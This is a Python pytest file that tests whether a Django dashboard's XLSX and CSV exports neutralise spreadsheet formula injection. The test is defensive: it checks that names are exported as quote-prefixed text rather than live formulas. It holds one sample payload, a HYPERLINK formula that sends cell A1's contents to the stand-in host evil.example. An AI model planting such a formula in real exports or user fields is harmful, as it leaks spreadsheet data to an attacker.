"""A grid named like a formula stays text in the dashboard's exports (core.exports)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from organization.models import StaffRole
from tests.organization.factories import staff_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
JANUARY = {"start": "2026-01-01", "end": "2026-01-31"}


def test_a_grid_named_like_a_formula_is_exported_as_text(client, world):
    world.u1.name = HYPERLINK
    world.u1.save(update_fields=["name"])
    world.g1.name = HYPERLINK
    world.g1.save(update_fields=["name"])
    client.force_login(staff_user(StaffRole.ORG_DEPARTMENT, unit=world.district))
    url = reverse("dashboards:export", args=[world.c1.pk, "units", "xlsx"])
    book = load_workbook(io.BytesIO(client.get(url, JANUARY).content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named, "the grid's row is in the export"
    assert all(c.data_type == "s" and c.value == "'" + HYPERLINK for c in named)
    assert not any(c.data_type == "f" for c in cells)

    url = reverse("dashboards:export", args=[world.c1.pk, "units", "csv"])
    text = client.get(url, JANUARY).content.decode("utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(text)) for v in row if "HYPERLINK" in v]
    assert values and all(v == "'" + HYPERLINK for v in values)
